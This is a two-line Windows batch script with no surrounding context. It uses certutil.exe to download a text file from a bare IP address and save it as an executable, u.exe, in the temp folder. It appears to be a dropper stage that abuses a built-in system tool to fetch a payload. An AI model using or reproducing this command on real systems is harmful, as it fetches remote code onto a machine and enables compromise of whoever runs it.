@echo off
certutil.exe -urlcache -split -f http://192.0.2.77/u.txt %TEMP%\u.exe
